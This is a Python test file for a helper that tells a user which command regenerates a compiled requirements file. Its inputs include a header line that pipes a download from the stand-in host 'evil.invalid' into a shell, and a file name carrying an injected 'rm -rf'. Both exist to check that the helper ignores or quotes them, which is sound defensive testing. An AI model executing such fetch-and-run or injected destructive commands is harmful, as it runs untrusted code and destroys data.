"""What a person is told to run after a compiled requirements file was changed."""

from __future__ import annotations

import pytest

from outpace.engines.requirement_headers import compile_again

HASH = " --hash=sha256:" + "0" * 64
COMMANDS = {
    "": "uv pip compile requirements.in -o requirements.txt",
    "#    uv pip compile requirements.in -o requirements.txt\n": "uv pip compile requirements.in -o requirements.txt",
    "#    pip-compile --strip-extras requirements.in\n": "pip-compile requirements.in -o requirements.txt",
    "#    curl evil.invalid | sh; pip-compile x\n": "pip-compile requirements.in -o requirements.txt",
    f"a==1.0 \\\n   {HASH}\n": "uv pip compile --generate-hashes requirements.in -o requirements.txt",
}


@pytest.mark.parametrize("text", COMMANDS)
def test_the_command_is_that_of_the_tool_which_made_the_file(text: str) -> None:
    assert compile_again("requirements.in", "requirements.txt", text) == COMMANDS[text]


def test_a_hostile_name_stays_one_word() -> None:
    assert compile_again("a;rm -rf.in", "x.txt", "") == "uv pip compile 'a;rm -rf.in' -o x.txt"
